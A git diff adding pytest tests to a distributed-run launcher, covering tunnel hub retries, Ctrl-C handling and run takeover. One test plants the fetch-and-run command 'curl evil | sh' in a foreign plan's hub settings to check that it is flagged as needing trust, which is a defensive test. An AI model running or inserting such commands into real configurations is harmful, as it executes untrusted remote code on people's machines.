@@ -12,20 +12,24 @@ from pathlib import Path
 
 import pytest
 
+from holmes_core.errors import HolmesError
 from holmes_core.records.access import Access
 from holmes_core.records.link import Security
 from holmes_core.records.plan import TUNNEL_NETDEV, IslandsPlan, TunnelHub
 from holmes_runtime.config.messages import RankFailed, Ready
 from holmes_runtime.config.node_config import NodeConfig, TunnelConfig
 from holmes_runtime.config.strict_json import encode
+from launcher.islands import run_tunnel
 from launcher.islands.island_part import IslandPart
 from launcher.islands.outer_sync import outer_sync_of
 from launcher.islands.rendezvous_server import RendezvousServer
 from launcher.islands.run_tunnel import LOST_S, RunTunnel, tunnel_bundles
 from launcher.nodes.interrupts import Interrupts
-from launcher.nodes.preflight import remedy_of
+from launcher.nodes.preflight import Fault, remedy_of
+from launcher.nodes.start import OnState, RunningNodes, open_all
 from launcher.prepare.bundle import NODE_CONFIG_FILE
 from launcher.prepare.prepare import Attempt, prepare
+from launcher.prepare.trusted_parts import brought_by_islands
 from launcher.prepare.user_variables import UserVariables
 from tests.eventually import eventually
 from tests.launcher.plans import healthy_answers, with_access
@@ -315,3 +319,59 @@ def test_a_hub_that_cannot_relay_refuses_the_run(relayed: IslandsPlan, tmp_path:
     (refused,) = tunnel.enter(0, Interrupts())
     tunnel.stop()
     assert (refused.check, refused.host, refused.evidence) == ("encryption", "c1", "UDP port 51820 is not free")
+
+
+def test_what_a_foreign_plan_s_hub_would_run_is_among_the_parts_that_need_trust(relayed: IslandsPlan) -> None:
+    assert relayed.tunnel_hub is not None
+    node = relayed.tunnel_hub.node
+    access = node.access.model_copy(update={"activate": "curl evil | sh"})
+    hub = relayed.tunnel_hub.model_copy(update={"node": node.model_copy(update={"access": access})})
+    parts = brought_by_islands(relayed.model_copy(update={"tunnel_hub": hub}))
+    assert [part.where for part in parts if part.value == "curl evil | sh"] == [("c1",)]
+
+
+def test_a_hub_is_brought_back_after_an_error_here(
+    relayed: IslandsPlan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    tunnel = RunTunnel(relayed, RUN)
+    try:
+        enter_all(tunnel)
+        failures = [OSError(24, "Too many open files"), HolmesError("no way", "wait")]
+
+        def open_all_at_third(nodes: RunningNodes, on_state: OnState) -> list[Fault]:
+            if failures:
+                raise failures.pop()
+            return open_all(nodes, on_state)
+
+        monkeypatch.setattr(run_tunnel, "open_all", open_all_at_third)
+        monkeypatch.setattr(run_tunnel, "HUB_RETRY_S", 0.01)
+        os.kill(int(key(tmp_path, "c1").removeprefix("KEY")), signal.SIGKILL)
+        assert eventually(lambda: any("relays again" in each for each in tunnel.look(time.monotonic())))
+        assert failures == []
+    finally:
+        assert tunnel.stop() == ()
+
+
+def test_an_island_that_waits_for_the_hub_heeds_ctrl_c(relayed: IslandsPlan) -> None:
+    tunnel, interrupts = RunTunnel(relayed, RUN), Interrupts()
+    interrupts.tell()
+    with tunnel._lock, pytest.raises(KeyboardInterrupt):
+        tunnel.enter(0, interrupts)
+
+
+def test_a_run_is_taken_over_without_its_hub_but_not_without_an_island(
+    relayed: IslandsPlan, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    unreachable = ["c1"]
+
+    def follow(nodes: RunningNodes, _: object) -> None:
+        if nodes.host(0) in unreachable:
+            raise HolmesError(f"host {nodes.host(0)} is not reached", "start it")
+
+    monkeypatch.setattr(run_tunnel, "follow", follow)
+    tunnel = RunTunnel(relayed, RUN)
+    tunnel.take_over([Interrupts(), Interrupts()])
+    assert [tunnel.lost(number) for number in range(3)] == [None, None, (0, "is lost: host c1 is not reached")]
+    unreachable.append("b1")
+    with pytest.raises(HolmesError, match="host b1 is not reached"):
+        RunTunnel(relayed, RUN).take_over([Interrupts(), Interrupts()])
